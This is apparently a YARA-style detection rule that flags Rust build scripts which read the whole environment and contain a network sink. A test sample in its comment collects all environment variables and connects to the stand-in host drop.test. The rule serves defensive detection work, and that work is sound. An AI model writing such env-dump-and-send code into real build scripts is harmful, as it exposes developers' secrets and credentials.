/*
Scripts that only enumerate are common; scripts that also send are not.

```rust,match
fn main() { let e: Vec<_> = std::env::vars().collect(); let mut s = std::net::TcpStream::connect("drop.test:80").unwrap(); }
```
```rust,clean
fn main() { for (k, _) in std::env::vars() { if k.starts_with("DEP_") { println!("cargo:rerun-if-env-changed={k}"); } } }
```
*/
rule environment_sent : high {
  meta:
    id = "1906a517-810b-5a5b-b976-42574e6f4372"
    description = "The whole environment is taken and something is sent"
    author = "Sandpit"
    date = "2026-11-24"
    status = "stable"
    scope = "build-script"
    behaviours = "environment-dump"
    references = "incident 2026-04-20 mysten-metrics, MAL-2026-2958, T1082"
  strings:
    $all = /\benv::vars(_os)?\s{0,2}\(\s{0,2}\)/
    $sink = /\b(TcpStream::connect|UdpSocket::bind|ureq::(post|put)|reqwest::|\.post\s{0,2}\(|"curl")/
  condition:
    all of them
}
